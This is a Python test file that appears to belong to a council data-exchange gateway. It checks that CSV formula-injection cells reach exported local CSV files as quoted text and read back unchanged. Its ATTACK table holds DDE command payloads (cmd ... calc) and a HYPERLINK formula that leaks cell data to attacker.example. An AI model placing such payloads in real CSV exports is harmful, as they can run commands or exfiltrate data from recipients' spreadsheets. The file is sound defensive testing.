"""Issue 13, item 4: a received record's cells that a spreadsheet would run as a formula
reach a local CSV file as text, through GET /v1/inbox?format=local, in every CSV writer;
and the quote the gateway adds reads back off (the round trip)."""

from __future__ import annotations

import base64
import csv
import io
import shutil
from pathlib import Path

import pytest
import yaml
from fastapi.testclient import TestClient
from policy_support import DUDLEY, ROOT, pump, settings_for, submit
from support.gateways import config_copy, memory_gateway

from adapters.csv_cells import FORMULA_START, neutralise, restore
from adapters.csv_source import CsvSource
from gateway.api.app import create_app
from gateway.api.auth import ApiKeys

pytestmark = pytest.mark.timeout(120)

# The four cells of the attack run (issue 13), each in a column both CSV formats write.
ATTACK = {
    "STRENGTHS": "=cmd|' /C calc'!A1",
    "NEEDS": '+HYPERLINK("https://attacker.example/?leak="&A1,"Open the plan")',
    "ACTION_1_OWNER": "-2+3+cmd|' /C calc'!A0",
    "ACTION_1": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _export_with_formulas() -> bytes:
    """Dudley's sample register with the four cells in row 1 (shared with 336 and 333)."""
    rows = list(csv.DictReader(io.StringIO(DUDLEY.read_bytes().decode("cp1252"))))
    rows[0].update(ATTACK)
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode("cp1252")


def test_formula_cells_reach_every_local_csv_format_as_text(tmp_path: Path) -> None:
    # Wolverhampton's case system takes Dudley-style CSV, Sandwell's a YAML-only CSV format:
    # both CSV writers of a local format are on the served path.
    config = config_copy(tmp_path)
    shutil.copy(
        ROOT / "docs" / "examples" / "coventry-331" / "coventry-csv.yaml", config / "adapters"
    )
    directory = yaml.safe_load((config / "authorities.yaml").read_text(encoding="utf-8"))
    directory["authorities"]["336"]["adapter"] = "dudley-csv"
    directory["authorities"]["333"]["adapter"] = "coventry-csv"
    (config / "authorities.yaml").write_text(yaml.safe_dump(directory), encoding="utf-8")
    hosted = ("332", "333", "336")
    gw = memory_gateway(tmp_path, hosted, settings=settings_for(tmp_path, hosted))
    submit(gw, "332", "dudley-csv", _export_with_formulas(), "caf-register.csv")
    pump(gw)
    keys = ApiKeys(tmp_path / "api-keys.json")
    client = TestClient(create_app(gw, keys))

    for authority, encoding in (("336", "cp1252"), ("333", "utf-8")):
        auth = {"Authorization": f"Bearer {keys.issue(authority)}"}
        served = client.get("/v1/inbox", params={"format": "local"}, headers=auth)
        assert served.status_code == 200, served.text
        (item,) = [i for i in served.json() if i["message_type"] == "Assessment"]
        assert item["format"] == "local" and item["content_type"].startswith("text/csv"), item
        data = base64.b64decode(item["content_base64"]).decode(encoding)
        cells = [cell for row in csv.reader(io.StringIO(data)) for cell in row]
        for text in ATTACK.values():
            assert "'" + text in cells, (authority, text, data)
        assert not [c for c in cells if c.startswith(FORMULA_START)], (authority, data)
        # Read back by the gateway's own CSV reader, each cell is the sender's text again.
        source = CsvSource(io.BytesIO(data.encode(encoding)), "served.csv", encoding)
        read = {v for row in source.rows() for v in row.cells.values()}
        assert set(ATTACK.values()) <= read, authority


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+44 121", "-", "@x", "\tx", "\rx", "'=1", "''+2", "'", "'quoted'", "plain", ""],
)
def test_neutralising_a_cell_is_undone_exactly_by_reading_it(text: str) -> None:
    cell = neutralise(text)
    assert not cell.startswith(FORMULA_START)
    assert restore(cell) == text
